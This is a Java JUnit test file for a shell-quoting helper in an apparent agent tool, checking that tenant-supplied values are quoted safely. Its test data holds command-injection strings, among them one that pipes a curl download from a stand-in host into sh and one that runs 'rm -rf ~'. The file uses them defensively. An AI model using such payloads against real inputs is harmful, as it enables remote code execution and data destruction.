package io.pullwarden.agent.diagnose;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Tenant-controlled values in a printed command reach the shell as one word, as written. */
class ShellTest {

  static Stream<Arguments> values() {
    return Stream.of(
        arguments("registry.example.com:5000", "registry.example.com:5000"),
        arguments("https://index.docker.io/v1/", "https://index.docker.io/v1/"),
        arguments("robot@team=a+b-c_d", "robot@team=a+b-c_d"),
        arguments("r$(curl -s evil.example|sh).io", "'r$(curl -s evil.example|sh).io'"),
        arguments("a`id`b", "'a`id`b'"),
        arguments("it's", "'it'\\''s'"),
        arguments("a b", "'a b'"),
        arguments("x;rm -rf ~", "'x;rm -rf ~'"),
        arguments("*", "'*'"),
        arguments("", "''"));
  }

  @ParameterizedTest(name = "{0} -> {1}")
  @MethodSource("values")
  void aValueIsLeftAsItIsOnlyWhenPlainlySafe(String value, String quoted) {
    assertThat(Shell.quote(value)).isEqualTo(quoted);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "r$(echo owned).io",
        "a'b\"c\\d`e$HOME*?[x]{y,z}!#&|;<>()~",
        "line\nbreak",
        "'",
        "''",
        "-n",
        ""
      })
  void aPosixShellReadsTheQuotedValueBackUnchanged(String value) throws Exception {
    Process sh =
        new ProcessBuilder("sh", "-c", "printf '%s' " + Shell.quote(value))
            .redirectErrorStream(true)
            .start();
    assertThat(sh.waitFor(10, TimeUnit.SECONDS)).isTrue();
    String printed = new String(sh.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

    assertThat(printed).isEqualTo(value);
  }
}
